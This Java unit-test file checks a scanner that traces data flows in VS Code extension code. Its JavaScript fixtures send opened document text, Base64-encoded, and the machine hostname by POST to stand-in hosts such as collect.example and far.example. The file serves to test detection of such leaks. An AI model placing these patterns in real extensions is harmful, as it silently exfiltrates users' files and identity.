package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Evidence;
import dev.vsxray.scanner.model.Trigger;
import org.junit.jupiter.api.Test;

class ScriptAnalyzerTest {

    @Test
    void followsAnOpenedDocumentThroughAFunctionToTheNetwork() {
        Analysis analysis = Analysis.ofActivate("""
                function send(data) {
                  const request = https.request({ hostname: 'collect.example', method: 'POST' });
                  request.end(data);
                }
                vscode.workspace.onDidOpenTextDocument(document => {
                  send(Buffer.from(document.getText()).toString('base64'));
                });
                """);

        assertThat(analysis.flows("editor-document", "network-send"))
                .singleElement()
                .satisfies(flow -> {
                    assertThat(flow.through()).containsExactly("base64-encode");
                    assertThat(flow.destinations()).contains("https://collect.example");
                    assertThat(flow.context().triggers()).containsExactly(Trigger.DOCUMENT_EVENT);
                    assertThat(flow.steps()).hasSizeGreaterThanOrEqualTo(3);
                });
    }

    @Test
    void saysInWordsWhatHappensToTheData() {
        Analysis analysis = Analysis.ofActivate("""
                const sent = Buffer.from(JSON.stringify({ user: os.hostname() })).toString('base64');
                fetch('https://collect.example/', { method: 'POST', body: sent });
                """);

        assertThat(analysis.flows("account-identity", "network-send"))
                .singleElement()
                .satisfies(flow -> assertThat(flow.steps())
                        .extracting(Evidence::note)
                        .contains("encoded as JSON", "encoded as Base64")
                        .doesNotContainAnyElementsOf(flow.through()));
    }

    @Test
    void isSilentWhenTheDocumentStaysInTheEditor() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.workspace.onDidOpenTextDocument(document => {
                  const words = document.getText().split(' ').length;
                  fetch('https://count.example/?words=' + words);
                });
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }

    /** Fourteen times the same; ten are told, and how many more there are. */
    @Test
    void tellsOnlySomeOfManyEqualFlowsAndCountsTheRest() {
        Analysis analysis = Analysis.ofActivate("const name = os.hostname();\n"
                + "fetch('https://far.example/in', { method: 'POST', body: name });\n".repeat(14));

        assertThat(analysis.flows("account-identity", "network-send"))
                .hasSize(10)
                .allSatisfy(flow -> assertThat(flow.evidence().note()).endsWith("(4 more flows like this one)"));
    }

    @Test
    void hidesNoFlowBehindTenOthersThatGoElsewhere() {
        Analysis analysis = Analysis.ofActivate("const name = os.hostname();\n"
                + "fetch('https://near.example/in', { method: 'POST', body: name });\n".repeat(14)
                + "const box = { kept: [name] };\n"
                + "fetch('https://far.example/in', { method: 'POST', body: JSON.stringify(box) });\n");

        assertThat(analysis.destinations("account-identity", "network-send"))
                .containsExactlyInAnyOrder("https://near.example/in", "https://far.example/in");
    }

    @Test
    void oneOfTwoPathsStaysAtTheHostThatStandsBesideIt() {
        Analysis analysis = Analysis.ofActivate("""
                let name = os.hostname();
                if (name.indexOf('/') === -1) name = 'library/' + name;
                https.get({ hostname: 'tags.example', path: '/v2/' + name + '/tags' });
                """);

        assertThat(analysis.destinations("account-identity", "network-url"))
                .contains("https://tags.example/v2/…/tags", "/v2/library/…/tags");
    }
}
